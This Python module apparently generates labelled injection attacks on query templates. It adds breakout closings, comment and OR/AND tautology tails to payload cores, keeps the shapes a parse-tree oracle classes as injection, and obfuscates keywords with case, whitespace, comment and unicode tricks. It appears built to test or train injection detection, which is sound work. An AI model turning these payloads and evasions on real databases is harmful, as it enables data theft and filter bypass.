"""From a payload's core to what an attacker would really send into one place of one query.

Attackers try breakouts until one works; so does this: of the closings and tails that could fit a
place it takes those that the oracle reads as another query than the innocent one.
"""
import re

import cosmos
import effect
import lists

CLOSINGS = ["", ")", "))", ")))", "]", "])", "}", "}]", "},true)", "\"})", ", true)"]
STARTS = {"sq": ["x", "", "a", "zz"], "dq": ["x", "", "a", "zz"], "num": ["1", "5", "-1", "0"]}
QUOTE = {"sq": "'", "dq": '"', "num": "", "ident": ""}
KEEP = {"true", "false", "null", "undefined", "udf"}


class Target:
    """One place of one template, with an innocent filling of the others."""

    def __init__(self, template, at, filling):
        self.template, self.at, self.filling = template, at, filling
        self.base, self.place = lists.place(template, at)
        self.tree = cosmos.parse(lists.fill(template, filling))
        self.innocent = cosmos.masked(self.tree)
        # Where a name is asked for, another name alone is no attack.
        self.named = lists.slots(template)[at] in lists.NAMES
        self.root = root_name(self.tree)
        self.property = some_property(self.tree, self.root)
        self.worked = []

    def query(self, value):
        return lists.fill(self.template, self.filling[:self.at] + [value] + self.filling[self.at + 1:])

    def judge(self, query, value):
        """(class, reason) of an attack by the tree it has."""
        try:
            tree = cosmos.parse(query)
        except cosmos.Refused as refused:
            return "failed", refused.kind
        same = cosmos.masked(tree) == self.innocent or (self.named and self.only_named(tree, value))
        return ("harmless", "literal") if same else ("injection", "other tree")

    def only_named(self, tree, value):
        """Whether the value is a name in the name's place and nothing else."""
        if self.place == "bracket":
            quoted = f'"{value}"' if self.base == "dq" else f"'{value}'"
            tree = renamed(tree, cosmos.unquote(quoted), self.filling[self.at])
            return cosmos.masked(tree) == self.innocent
        return bool(re.fullmatch(r"\w+", value))

    def effect(self, query, value):
        """What the attack does to the rows, against an innocent query that asks for the same value."""
        lead = re.match(r"[^'\"]*" if QUOTE[self.base] else r"-?\d+(\.\d+)?|", value)[0]
        try:
            innocent = cosmos.parse(self.query(lead))
        except cosmos.Refused:
            innocent = self.tree
        return effect.of(innocent, cosmos.parse(query))

    def core(self, text):
        field = self.filling[self.at] if self.base == "ident" or self.place == "bracket" else "name"
        return text.replace("{c}", self.root).replace("{p}", self.property).replace("{f}", field)


def renamed(tree, old, new):
    if not isinstance(tree, tuple):
        return tree
    return ("lit", new, "name") if tree == ("lit", old, "name") else tuple(renamed(part, old, new) for part in tree)


def root_name(tree):
    source = tree[4]
    if not source:
        return "c"
    first = source[0]
    return first[1] if first[0] == "each" else first[2] or str(first[1][-1])


def some_property(tree, root):
    for part in cosmos.subtrees(tree[5]):
        if isinstance(part, tuple) and part[:2] == ("dot", ("ref", root, 0)) and isinstance(part[2][1], str):
            if re.fullmatch(r"[A-Za-z_]\w*", part[2][1]):
                return part[2][1]
    return "name"


def tails(base, closing, connector):
    """What may follow a core so that the rest of the query does no harm."""
    quote = QUOTE[base]
    opened = "(" * closing.count(")")
    found = [" --", "--", " -- -", " --x"]
    if base == "num":
        return found + ["", f" {connector} {opened}1=2" if opened else ""]
    ends = f" OR {opened}{quote}a{quote}={quote}b", f" AND {opened}{quote}a{quote}={quote}a"
    return found + [ends[0], ends[1], ends[0].replace("=", " LIKE ")]


def compose(target, how, core, rng, gap):
    """Breakout, core and tail: first what worked here before, then whatever fits."""
    if how not in ("or", "and", "cut"):
        return [core]
    joint = {"or": rng.choice(["OR", "OR", "OR", "or", "Or"]), "and": rng.choice(["AND", "and"]), "cut": ""}[how]
    closings = CLOSINGS + [" AND 9"] if target.place == "between" else CLOSINGS
    shapes = [(k, n) for k in closings for n in range(7)]
    rng.shuffle(shapes)
    known = list(target.worked)
    rng.shuffle(known)
    composed = []
    for closing, n in known[:2] + shapes:
        ends = tails(target.base, closing, joint)
        if how == "cut" or target.base == "ident":
            ends = ends[:4]
        tail = ends[n % len(ends)]
        start = rng.choice(STARTS.get(target.base, [target.filling[target.at]]))
        lead = f"{start}{QUOTE[target.base]}{closing}"
        words = gap.join(w for w in (joint, core) if w)
        composed.append((f"{lead}{gap}{words}{tail}", (closing, n)))
    return composed


def adapted(target, how, core, rng, tries, gap=" "):
    """(value, class, reason): the first composition that changes the tree, else the last that failed."""
    core = target.core(core)
    last = None
    for n, candidate in enumerate(compose(target, how, core, rng, gap)):
        if n >= tries:
            break
        value, shape = candidate if isinstance(candidate, tuple) else (candidate, None)
        label, reason = target.judge(target.query(value), value)
        last = (value, label, reason)
        if label == "injection":
            if shape and shape not in target.worked:
                target.worked.append(shape)
            break
    return last


def obfuscated(text, rng):
    """The same tokens written otherwise: case, white space, comments, needless parentheses."""
    parts = re.split(r"('(?:[^'\\]|\\.)*'|\"(?:[^\"\\]|\\.)*\")", text)
    ways = rng.sample(["case", "space", "comment", "unicode"], rng.choice([1, 2, 2, 3]))

    def word(m):
        kept = m[0].lower() not in cosmos.KEYWORDS or m[0] in KEEP
        return m[0] if kept else "".join(rng.choice([c.lower(), c.upper()]) for c in m[0])
    for n, part in enumerate(parts):
        if n % 2:
            if "unicode" in ways and len(part) > 2 and part[1].isalnum():
                parts[n] = f"{part[0]}\\u{ord(part[1]):04x}{part[2:]}"
            continue
        if "case" in ways:
            part = re.sub(r"(?<![.\w])[A-Za-z]+", word, part)
        if "space" in ways:
            part = re.sub(r"(?<=\w) (?=\w)", lambda _: rng.choice(["\t", "\n", "  ", "\r\n", " \t "]), part)
        if "comment" in ways:
            part = re.sub(r"(?<=\w) (?=\w)", lambda _: rng.choice([" ", "--\n", " --or\n", "--'\n"]), part, count=2)
        parts[n] = part
    return "".join(parts)
